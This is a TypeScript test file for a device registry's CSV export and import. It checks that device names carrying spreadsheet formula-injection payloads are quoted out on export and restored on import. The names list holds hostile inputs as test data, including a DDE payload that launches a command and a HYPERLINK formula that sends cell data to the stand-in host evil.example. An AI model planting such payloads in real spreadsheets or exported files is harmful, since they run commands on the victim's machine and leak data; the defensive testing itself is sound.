import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { lianxun } from '../gateway/cli/commands.ts'
import {
  openTownGateway,
  type Person,
  type TownGateway,
  villageA,
} from '../support/town-gateway.ts'

/** `=cmd()` in what is exported as CSV: a sheet program must show it, not run it. */

const names = [
  "=cmd|'/c calc'!A1",
  '=cmd()',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '＝全角',
]

let gateway: TownGateway
let admin: Person
let folder: string

beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'lianxun-export-'))
  gateway = await openTownGateway()
  admin = await gateway.as('admin01')
  for (const [n, name] of names.entries()) {
    const place = { village: villageA, lon: -3.5, lat: 29.1833 }
    const device = { id: `formula-${n}`, name, kind: 'airStation', ...place }
    expect((await admin.send('POST', '/api/v1/devices', device)).status).toBe(201)
  }
})

afterAll(async () => {
  await gateway?.remove()
  await rm(folder, { recursive: true, force: true })
})

test('=cmd() in exported CSV: neutralised, numbers stay numbers, and the import takes it back', async () => {
  expect(await lianxun(['export', folder], gateway.settings)).toMatchObject({ code: 0 })
  const text = await readFile(path.join(folder, 'devices.csv'), 'utf8')
  // A cell begins at the line's beginning or behind a comma, with or without a quote.
  for (const line of text.split('\n')) expect(line).not.toMatch(/(^|,)"?[=+@＝\t\r]/)
  expect(text).toContain(',-3.5,29.1833,')
  for (const name of names.slice(0, 5)) {
    expect(text).toContain(`'${name.replaceAll('"', '""')}`)
  }
  const { code, err } = await lianxun(['import', folder], gateway.settings)
  expect([code, err]).toEqual([0, ''])
  for (const [n, name] of names.entries()) {
    const { body } = await admin.get(`/api/v1/devices/formula-${n}`)
    expect([body.name, body.lon]).toEqual([name, -3.5])
  }
})
